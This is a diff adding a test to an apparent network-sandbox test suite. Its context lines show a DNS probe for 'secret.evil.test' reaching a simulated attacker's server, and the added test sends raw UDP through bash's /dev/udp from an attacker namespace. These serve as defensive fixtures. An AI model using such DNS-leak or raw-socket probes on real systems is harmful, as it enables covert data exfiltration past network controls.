@@ -43,3 +43,11 @@ def test_names_of_the_attacker_reach_his_server_through_the_resolver(world: Worl
     probe(world, "dns", RESOLVER, "secret.evil.test")
     assert world.attacker.wait_for(lambda event: event.kind == "dns" and event.text == "secret.evil.test", since=mark)
     assert world.received(mark)["udp4"]
+
+
+def test_complaints_of_the_host_s_kernel_are_not_counted(world: World) -> None:
+    mark = world.mark()
+    attacker = world._namespaces[1]
+    for host in ("10.215.0.1", "fd00:215::1"):
+        attacker.run("bash", "-c", f"printf x >/dev/udp/{host}/99")
+    assert not world.received(mark)
